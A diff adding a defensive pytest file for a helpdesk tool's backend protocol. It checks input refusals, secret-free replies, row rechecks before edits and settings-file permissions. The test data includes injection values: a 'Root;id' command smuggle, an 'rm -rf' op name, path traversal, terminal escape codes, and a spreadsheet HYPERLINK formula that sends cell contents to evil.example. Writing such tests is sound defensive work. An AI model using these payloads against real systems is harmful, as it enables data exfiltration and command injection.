@@ -1,0 +1,258 @@
+"""The backend's protocol: schemas, refusals that keep the process up, no secret in replies."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from moc_tui.backend.client import BackendClient, BackendError, dev_command
+from moc_tui.core.settings import load_settings
+from moc_tui.core.sheets import open_store
+from moc_tui.core.sheets.local import LocalSheetStore
+from tests.sample_rows import ACCESS_HEADER, access_row
+from tests.settings_files import write_settings
+
+PIN = "9731"
+FORM, DONE = "Form Responses 1", "Current Users"
+ADMIN_CANARY = "CANARY-ADMIN-PW-7f3e"
+
+
+def local_settings(tmp_path: Path, rows: Sequence[Sequence[str]]) -> Path:
+    """settings.ini (0600) with an embedded sheet holding `rows` under the form header."""
+    path = write_settings(
+        tmp_path,
+        {
+            "auth": {
+                "auth_url": "http://127.0.0.1:9/v3",
+                "admin_user": "admin",
+                "admin_pwd": ADMIN_CANARY,
+                "admin_project": "admin",
+            }
+        },
+    )
+    store = open_store(load_settings(path).access_sheet)
+    assert isinstance(store, LocalSheetStore)
+    store.ensure_tabs([FORM, DONE])
+    store.append_rows(FORM, [ACCESS_HEADER, *rows])
+    store.append_rows(DONE, [ACCESS_HEADER])
+    return path
+
+
+class RawBackend:
+    """The backend as a child process, driven with raw bytes; every line it wrote is kept."""
+
+    def __init__(self, config: Path, env: dict[str, str] | None = None) -> None:
+        self.proc = subprocess.Popen(
+            [sys.executable, "-I", "-m", "moc_tui", "backend", "--config", str(config)],
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            env=env or {"PATH": "/usr/bin:/bin"},
+        )
+        self.lines: list[bytes] = []
+
+    def send(self, raw: bytes) -> dict[str, Any]:
+        """Write `raw` (a newline is added) and return the next reply (events are kept)."""
+        assert self.proc.stdin is not None and self.proc.stdout is not None
+        self.proc.stdin.write(raw + b"\n")
+        self.proc.stdin.flush()
+        while True:
+            line = self.proc.stdout.readline()
+            assert line, "the backend stopped"
+            self.lines.append(line)
+            message: dict[str, Any] = json.loads(line)
+            if "event" not in message:
+                return message
+
+    def call(self, op: str, params: dict[str, Any] | None = None, rid: int = 1) -> dict[str, Any]:
+        return self.send(json.dumps({"id": rid, "op": op, "params": params or {}}).encode())
+
+    def close(self) -> tuple[int, bytes]:
+        assert self.proc.stdin is not None and self.proc.stderr is not None
+        self.proc.stdin.close()
+        status = self.proc.wait(timeout=60)
+        return status, self.proc.stderr.read()
+
+
+def values(message: Any) -> list[Any]:
+    """Every scalar in a JSON value, recursively."""
+    if isinstance(message, dict):
+        return [v for item in message.values() for v in values(item)]
+    if isinstance(message, list):
+        return [v for item in message for v in values(item)]
+    return [message]
+
+
+@pytest.fixture
+def config(tmp_path: Path) -> Path:
+    return local_settings(
+        tmp_path,
+        [
+            access_row(pin=PIN, first_name="Eve\x1b]2;PWNED\x07"),
+            access_row(email="bob@example.org", timestamp="t2", new_project="bobs"),
+        ],
+    )
+
+
+def test_refusals_keep_the_process_up(config: Path) -> None:
+    backend = RawBackend(config)
+    try:
+        assert backend.call("list_access")["error"]["code"] == "hello_first"
+        assert backend.call("hello", {"operator": "alice"})["ok"]
+        cases = {
+            b"not json": "malformed",
+            b"[1, 2]": "malformed",
+            b"\xff\xfe": "malformed",
+            b'{"id": true, "op": "hello"}': "malformed",
+            b'{"id": 1, "op": "hello", "extra": 1}': "malformed",
+            b'{"id": 1, "op": "rm -rf"}': "unknown_op",
+            b'{"id": 1, "op": "__init__"}': "unknown_op",
+            b'{"id": 1, "op": "list_access", "params": []}': "bad_params",
+            b'{"id": 1, "op": "list_access", "params": {"x": 1}}': "bad_params",
+            b'{"id": 1, "op": "ack_error", "params": {"error_id": "1"}}': "bad_params",
+            b'{"id": 1, "op": "ack_error", "params": {"error_id": true}}': "bad_params",
+            b'{"id": 1, "op": "hello", "params": {"operator": "Root;id"}}': "bad_params",
+            b'{"id": 1, "op": "audit_trail", "params": {"request_key": "../x"}}': "bad_params",
+            b'{"id": 1, "op": "provision", "params": {"rows": []}}': "bad_params",
+            b'{"id": 1, "op": "edit_access_field", "params": {"row": 2, "fingerprint": "'
+            + b"0" * 64
+            + b'", "field": "pin", "value": "1234"}}': "bad_params",
+            b"x" * (70 * 1024): "too_large",
+        }
+        for raw, code in cases.items():
+            answer = backend.send(raw)
+            assert answer["ok"] is False and answer["error"]["code"] == code, (raw[:80], answer)
+        # a refused request with a readable id is answered with that id
+        assert backend.send(b'{"id": "r7", "op": "nope"}')["id"] == "r7"
+        # still serving
+        assert backend.call("hello", {"operator": "alice"})["result"]["operator"] == "alice"
+    finally:
+        status, stderr = backend.close()
+    assert status == 0
+    assert ADMIN_CANARY.encode() not in stderr
+
+
+def test_list_never_carries_the_pin_or_raw_cells(config: Path) -> None:
+    backend = RawBackend(config)
+    try:
+        backend.call("hello", {"operator": "alice"})
+        answer = backend.call("list_access")
+    finally:
+        backend.close()
+    requests = answer["result"]["requests"]
+    assert [r["row"] for r in requests] == [2, 3]
+    assert PIN not in values(answer) and "cells" not in requests[0] and "pin" not in requests[0]
+    assert requests[0]["pin_provided"] is True
+    assert requests[0]["first_name"] == "Eve\\x1b]2;PWNED\\x07"  # escaped, never raw
+    assert all(b"\x1b" not in line and ADMIN_CANARY.encode() not in line for line in backend.lines)
+    assert all(line.isascii() for line in backend.lines)
+
+
+def test_edit_is_written_raw_after_the_row_is_rechecked(config: Path, tmp_path: Path) -> None:
+    store = open_store(load_settings(config).access_sheet)
+    with BackendClient(dev_command(config)) as client:
+        client.call("hello", {"operator": "alice"})
+        [first, second] = client.call("list_access")["requests"]
+        formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+        edited = client.call(
+            "edit_access_field",
+            {
+                "row": 3,
+                "fingerprint": second["fingerprint"],
+                "field": "description",
+                "value": formula,
+            },
+        )["request"]
+        assert edited["description"] == formula and "description" in edited["formulas"]
+        assert edited["fingerprint"] != second["fingerprint"]
+        assert store.read_tabs([FORM])[FORM][2][16] == formula  # stored as typed text
+        # the old fingerprint is stale now: refused, nothing written
+        with pytest.raises(BackendError) as stale:
+            client.call(
+                "edit_access_field",
+                {
+                    "row": 3,
+                    "fingerprint": second["fingerprint"],
+                    "field": "description",
+                    "value": "other",
+                },
+            )
+        assert stale.value.code == "row_changed"
+        with pytest.raises(BackendError) as hidden:
+            client.call(
+                "edit_access_field",
+                {
+                    "row": 2,
+                    "fingerprint": first["fingerprint"],
+                    "field": "first_name",
+                    "value": "Eve\u202e",
+                },
+            )
+        assert hidden.value.code == "bad_value"
+        trail = client.call("audit_trail", {"request_key": second["request_key"]})["records"]
+        assert [(r["operator"], r["action"]) for r in trail] == [("alice", "edit")]
+    assert store.read_tabs([FORM])[FORM][2][16] == formula
+
+
+def test_backend_refuses_unsafe_settings(config: Path, tmp_path: Path) -> None:
+    config.chmod(0o640)
+    backend = RawBackend(config)
+    status, _ = backend.close()
+    line = backend.proc.stdout.read() if backend.proc.stdout else b""
+    assert status == 78
+    error = json.loads(line)["error"]
+    assert error["code"] == "startup" and "chmod 600" in error["message"]
+    assert ADMIN_CANARY not in error["message"]
+    config.chmod(0o600)
+    link = tmp_path / "link.ini"
+    link.symlink_to(config)
+    backend = RawBackend(link)
+    status, _ = backend.close()
+    assert status == 78
+
+
+def test_config_option_is_refused_under_sudo(config: Path) -> None:
+    backend = RawBackend(config, env={"PATH": "/usr/bin:/bin", "SUDO_USER": "helpdesk"})
+    status, stderr = backend.close()
+    assert status == 64 and b"not accepted under sudo" in stderr
+
+
+def test_an_internal_failure_is_a_short_reply_and_a_logged_traceback(
+    config: Path, tmp_path: Path
+) -> None:
+    with BackendClient(dev_command(config)) as client:
+        client.call("hello", {"operator": "alice"})
+        [_, second] = client.call("list_access")["requests"]
+        # the cloud is unreachable (port 9): planning fails inside the core
+        with pytest.raises(BackendError) as failed:
+            client.call("plan_access", {"rows": [{"row": 3, "fingerprint": second["fingerprint"]}]})
+        assert failed.value.code == "internal" and "ref" in failed.value.message
+        assert "Traceback" not in failed.value.message
+        errors = client.call("list_errors")["errors"]
+        assert errors and "plan_access" in errors[0]["message"]
+        assert client.call("ack_error", {"error_id": errors[0]["id"]}) == {"acknowledged": True}
+        assert client.call("list_errors")["errors"] == []
+    log = (tmp_path / "state" / "backend.log").read_text()
+    assert "Traceback" in log and ADMIN_CANARY not in log
+    assert (tmp_path / "state" / "backend.log").stat().st_mode & 0o777 == 0o600
+
+
+def test_one_client_many_threads(config: Path) -> None:
+    from concurrent.futures import ThreadPoolExecutor
+
+    events: list[str] = []
+    with BackendClient(dev_command(config), on_event=lambda kind, data: events.append(kind)) as c:
+        assert c.call("hello", {"operator": "alice"})["operator"] == "alice"
+        with pytest.raises(BackendError) as other:
+            c.call("hello", {"operator": "mallory"})
+        assert other.value.code == "bad_params"
+        with ThreadPoolExecutor(8) as pool:
+            results = list(pool.map(lambda _: c.call("list_access"), range(24)))
+    assert all([r["row"] for r in result["requests"]] == [2, 3] for result in results)
+    assert events == []
